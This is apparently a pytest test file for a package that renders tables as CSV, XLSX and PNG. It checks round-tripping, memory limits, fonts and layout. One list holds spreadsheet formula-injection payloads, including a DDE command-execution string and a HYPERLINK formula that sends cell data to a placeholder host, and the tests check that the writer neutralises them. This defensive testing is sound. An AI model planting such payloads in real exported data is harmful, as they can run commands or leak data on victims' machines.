"""Any table into each kind of file, and back."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
from contextlib import closing
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from airflow_provider_whatsapp.client.errors import ConfigurationError, PayloadError
from airflow_provider_whatsapp.client.media import media_file
from airflow_provider_whatsapp.tables import files, rows
from airflow_provider_whatsapp.tables.cells import columns
from airflow_provider_whatsapp.tables.files import write_csv, write_xlsx
from airflow_provider_whatsapp.tables.picture import COMFORTABLE, MARGIN, NARROWEST, WIDEST, write_png
from airflow_provider_whatsapp.tables.rows import Rows, plain
from tests.examples import examples

pytestmark = pytest.mark.once

words = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
values = st.one_of(
    st.none(),
    words,
    st.booleans(),
    st.integers(),
    st.floats(),
    st.decimals(allow_nan=False),
    st.dates(),
    st.datetimes(timezones=st.sampled_from([None, UTC])),
    st.times(),
    st.timedeltas(),
    st.binary(max_size=20),
)


@st.composite
def tables(draw, most_columns=6, most_rows=12):
    width = draw(st.integers(1, most_columns))
    names = st.lists(words, min_size=width, max_size=width)
    content = st.lists(st.tuples(*[values] * width), max_size=most_rows)
    return draw(names), draw(content)


@settings(deadline=None)
@given(tables())
def test_csv_comes_back_as_it_was(tmp_path_factory, table):
    names, content = table
    path = tmp_path_factory.getbasetemp() / "any.csv"

    written = write_csv(path, Rows(names, content), formulas=True)

    with path.open(encoding="utf-8-sig", newline="") as file:
        read = list(csv.reader(file))
    assert written.rows == len(content)
    assert read == [[plain(value) for value in row] for row in [names, *content]]
    assert media_file(path).mime_type == "text/plain"


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3",
]
FORMULAS += [
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0@x",
    "\uff1d1",
    "\x01=1",
    "\0=1",
    "\ufeff=1",
    "-a",
    "+",
    "=",
    "@",
]
LATER = ["a;=1", "a\t=1", "a\n@x", "a\r\n+1+1", "a; =1", "a;\n=1"]
"""Formulas where a spreadsheet separates cells by something else."""
HARMLESS = [
    "",
    "-",
    "--",
    "-5",
    "-1.5e-07",
    "-.5",
    "+15550001111",
    "-12.50",
    "-1,234.5",
    "+5%",
    "a-b",
    "mail@x.example",
    "x=1",
    "1+1",
    "'=1",
]


@pytest.mark.parametrize("cell", [*FORMULAS, *LATER])
def test_a_csv_has_no_formulas_in_cells_or_names(tmp_path, cell):
    write_csv(tmp_path / "a.csv", Rows([cell, "b"], [[cell, 1], ["x", cell]]))

    text = (tmp_path / "a.csv").read_bytes().decode("utf-8-sig")
    for found in (line for read in (text, text.replace('"', "")) for line in re.split(r"[,;\t\r\n]", read)):
        assert not re.match(r"\s*[=+\-@\uff1d]", found.strip('"\x01\ufeff'))
    if cell in FORMULAS:
        assert next(csv.reader(io.StringIO(text, newline="")))[0].startswith("'")


@pytest.mark.parametrize("cell", [*HARMLESS, -5, 1.5, Decimal("-1.50"), -timedelta(days=1, hours=3), None])
def test_what_is_no_formula_stays_as_it_is(tmp_path, cell):
    write_csv(tmp_path / "a.csv", Rows(["a"], [[cell], ["x"]]))

    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
        read = list(csv.reader(file))
    assert read[1] in ([plain(cell)], [])


def test_formulas_stay_where_they_are_wanted_and_a_sheet_has_none_anyway(tmp_path):
    from openpyxl import load_workbook

    write_csv(tmp_path / "a.csv", Rows(["=a"], [["=1+1"]]), formulas=True)
    write_xlsx(tmp_path / "a.xlsx", Rows(["=a"], [["=1+1"], ["+1"], ["@x"]]))

    assert (tmp_path / "a.csv").read_text(encoding="utf-8-sig").split() == ["=a", "=1+1"]
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert [[(cell.value, cell.data_type) for cell in row] for row in sheet] == [
        [(text, "s")] for text in ("=a", "=1+1", "+1", "@x")
    ]


@settings(max_examples=examples(60), deadline=None)
@given(tables())
def test_xlsx_comes_back_with_its_types(tmp_path_factory, table):
    from openpyxl import load_workbook

    names, content = table
    path = tmp_path_factory.getbasetemp() / "any.xlsx"
    write_xlsx(path, Rows(names, content), title="2026/11: [all]")

    (sheet,) = load_workbook(path).worksheets
    read = sheet.iter_rows(min_row=2, max_row=1 + len(content), max_col=len(names))
    assert sheet.max_row <= 1 + len(content)
    assert media_file(path).kind == "document"
    for row, values_ in zip(read, content, strict=True):
        for cell, value in zip(row, values_, strict=True):
            assert cell.data_type != "f", "nothing becomes a formula"
            if isinstance(value, bool) or (isinstance(value, int) and abs(value) < 10**15):
                assert cell.value == value
            elif isinstance(value, date) and not isinstance(value, datetime) and value.year > 1900:
                assert cell.value.date() == value


def test_xlsx_keeps_texts_that_look_like_formulas_and_numbers_too_long_for_it(tmp_path):
    from openpyxl import load_workbook

    row = ("=1+1", 12345678901234567890, Decimal("19.90"), datetime(2026, 11, 22, 9, tzinfo=UTC), "a\x07b")
    path = tmp_path / "a.xlsx"
    write_xlsx(path, Rows("abcde", [row]))

    sheet = load_workbook(path).active
    assert [cell.value for cell in sheet[2]] == [
        "=1+1",
        "12345678901234567890",
        19.9,
        "2026-11-22 09:00:00+00:00",
        "a\ufffdb",
    ]
    assert (sheet.title, sheet.freeze_panes, sheet["A1"].font.b) == ("Report", "A2", True)


def test_rows_are_asked_for_in_pieces(tmp_path):
    class Cursor:
        description = (("n",),)
        pieces = (range(part, part + 10) for part in (0, 10, 20))

        def fetchmany(self, size):
            assert size == rows.PIECE
            return [(n,) for n in next(self.pieces, [])]

    path = tmp_path / "a.csv"
    assert write_csv(path, Rows.of_cursor(Cursor()), max_rows=25) == rows.Written(25, 5)
    assert path.read_text(encoding="utf-8-sig").split() == ["n", *map(str, range(25))]


def test_memory_does_not_grow_with_a_csv(tmp_path):
    import tracemalloc

    many = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 60000) SELECT i, HEX(i * 1e9) FROM n"
    with closing(sqlite3.connect(":memory:")) as opened:
        tracemalloc.start()
        written = write_csv(tmp_path / "a.csv", Rows.of_cursor(opened.execute(many)))
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()

    assert written.rows == 60_000
    assert peak < 1_000_000 < (tmp_path / "a.csv").stat().st_size


def test_a_csv_that_grows_too_large_stops(tmp_path, monkeypatch):
    monkeypatch.setitem(files.KINDS, "document", (20_000, ()))
    endless = (("x" * 100,) for _ in iter(int, 1))

    with pytest.raises(PayloadError, match="too large after 500 rows"):
        write_csv(tmp_path / "a.csv", Rows("a", endless))


def test_a_sheet_that_is_too_short_says_so(tmp_path, monkeypatch):
    monkeypatch.setattr(files, "SHEET_ROWS", 3)

    with pytest.raises(PayloadError, match="more rows than a sheet holds"):
        write_xlsx(tmp_path / "a.xlsx", Rows("a", [(n,) for n in range(4)]))
    assert write_xlsx(tmp_path / "a.xlsx", Rows("a", [(n,) for n in range(4)]), max_rows=2).left_out == 2


def picture(path):
    from PIL import Image

    image = Image.open(path)
    image.load()
    return image


@settings(max_examples=examples(12), deadline=None)
@given(tables(most_columns=14, most_rows=30))
@example((["a"], []))
@example((["W" * 60] * 14, [("W" * 200,) * 14] * 30))
def test_a_picture_of_anything_is_bounded_and_not_blank(tmp_path_factory, table):
    names, content = table
    path = tmp_path_factory.getbasetemp() / "any.png"

    written = write_png(path, Rows(names, content), title="Any")

    image = picture(path)
    assert written == rows.Written(min(len(content), 25), max(len(content) - 25, 0))
    assert NARROWEST - 20 <= image.width <= WIDEST
    assert 150 < image.height <= 150 + 170 * (written.rows + 3)
    assert len(image.convert("RGB").getcolors(65536)) > 3
    assert media_file(path).kind == "image"


def ink(image, left, top, right, bottom):
    """Return how many dark pixels a part has."""
    part = image.convert("L").crop((left, top, right, bottom))
    return sum(part.histogram()[:100])


def test_numbers_end_and_texts_begin_at_one_line(tmp_path):
    path = tmp_path / "a.png"
    write_png(path, Rows(["n", "word"], [(1, "a"), (1000, "abc"), (22, "abcdef")]))
    image = picture(path)

    body = 80
    edges = [x for x in range(image.width) if ink(image, x, body, x + 1, image.height - 4)]
    rows_of_edges = [
        [x for x in range(image.width) if ink(image, x, top, x + 1, top + 60)]
        for top in (body, body + 72, body + 144)
    ]
    gaps = [max(x for x in row if x < image.width // 2) for row in rows_of_edges]
    assert max(gaps) - min(gaps) <= 4
    assert min(edges) >= MARGIN


def test_what_does_not_fit_is_said(tmp_path):
    wide = Rows([f"column_{n}" for n in range(30)], [["some words here"] * 30] * 3)
    write_png(tmp_path / "with.png", wide)
    narrow = Rows([f"column_{n}" for n in range(2)], [["some words here"] * 2] * 3)
    write_png(tmp_path / "without.png", narrow)

    assert picture(tmp_path / "with.png").width <= WIDEST
    assert picture(tmp_path / "with.png").height > picture(tmp_path / "without.png").height


@pytest.mark.parametrize(
    ("title", "given_", "shown"),
    [
        ("sales", [1234.5, 7.0, None], ["1,234.50", "7.00", "-"]),
        ("sales", [1536.0, 475.0], ["1,536", "475"]),
        ("year", [2025, 2026], ["2025", "2026"]),
        ("orders", [12_000, 5], ["12,000", "5"]),
        ("order_id", [12_000, 5], ["12000", "5"]),
        ("price", [Decimal("1.5"), Decimal(20)], ["1.5", "20.0"]),
        ("share", [0.0123], ["0.0123"]),
        ("paid", [True, None, False], ["yes", "-", "no"]),
        ("at", [datetime(2026, 11, 22, 9, 30, 5, tzinfo=UTC)], ["2026-11-22 09:30+00:00"]),
        ("text", ["two\nlines\t\x07"], ["two lines"]),
    ],
)
def test_values_in_a_picture(title, given_, shown):
    (column,) = columns([title], [(value,) for value in given_])

    assert column.cells == shown


def test_a_picture_with_too_many_rows_is_refused(tmp_path):
    with pytest.raises(PayloadError, match="cannot be read on a phone"):
        write_png(tmp_path / "a.png", Rows("a", []), max_rows=101)


def test_a_font_that_is_not_there(tmp_path):
    with pytest.raises(ConfigurationError, match="cannot be opened"):
        write_png(tmp_path / "a.png", Rows("a", []), font="/no/such/font.ttf")


def test_letters_that_no_font_has_are_drawn_without_their_accents(tmp_path, monkeypatch):
    monkeypatch.setattr("airflow_provider_whatsapp.tables.fonts.FALLBACKS", ())
    from airflow_provider_whatsapp.tables.fonts import Fonts

    fonts = Fonts.for_text("Zürich, Größe, 5 €, 東京, Ł")

    assert fonts.drawable("Zürich, Größe, 5 €, 東京") == "Zurich, Grosse, 5 EUR, 東京"


def test_long_names_break_where_words_do():
    from airflow_provider_whatsapp.tables.fonts import Fonts

    fonts = Fonts.for_text("load")

    assert fonts.wrap("load_orders_into_warehouse", 260, 2) == ["load_orders_", "into_warehouse"]
    assert fonts.wrap("one two three four five six", 160, 2) == ["one two", "three fo\N{HORIZONTAL ELLIPSIS}"]


def test_texts_break_before_the_picture_becomes_too_wide_for_a_phone(tmp_path):
    path = tmp_path / "a.png"
    long = "a sentence that tells in many words what has gone wrong"
    write_png(path, Rows(["task", "error"], [("load", long), ("clean", long)]))

    assert picture(path).width <= COMFORTABLE


def test_characters_that_no_font_has_are_counted(tmp_path, caplog):
    write_png(tmp_path / "a.png", Rows(["a"], [("\U00012000\U00012001",)]))

    assert "lacks 2 of its characters" in caplog.text


@pytest.mark.parametrize(
    ("library", "write", "extra"), [("openpyxl", write_xlsx, "xlsx"), ("PIL", write_png, "png")]
)
def test_a_missing_library_names_its_extra(tmp_path, monkeypatch, library, write, extra):
    monkeypatch.setitem(__import__("sys").modules, library, None)

    with pytest.raises(ConfigurationError, match=rf"airflow-provider-whatsapp\[{extra}\]"):
        write(tmp_path / "a", Rows("a", []))
